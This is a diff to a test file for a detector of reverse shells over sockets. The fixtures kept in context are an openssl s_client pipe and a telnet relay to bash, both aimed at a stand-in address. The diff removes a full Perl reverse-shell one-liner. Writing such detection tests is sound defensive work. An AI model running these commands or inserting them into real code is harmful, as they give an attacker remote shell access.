@@ -78,16 +78,6 @@ describe('shells on sockets', () => {
       piped(command(['sh', '-i']), command(['openssl', 's_client', '-quiet', '-connect', '192.0.2.44:8443'])),
     ],
     ['telnet', piped(command(['telnet', '192.0.2.44', '8443']), command(['/bin/bash']), command(['telnet', 'x', '1']))],
-    [
-      'perl',
-      [
-        command([
-          'perl',
-          '-e',
-          'use Socket;$i="192.0.2.44";$p=8443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");',
-        ]),
-      ],
-    ],
   ];
   test.each(fires)('%s', (_name, peers) => {
     const shell = allEffects(...peers).find((effect) => effect.kind === 'connect' && effect.shell);
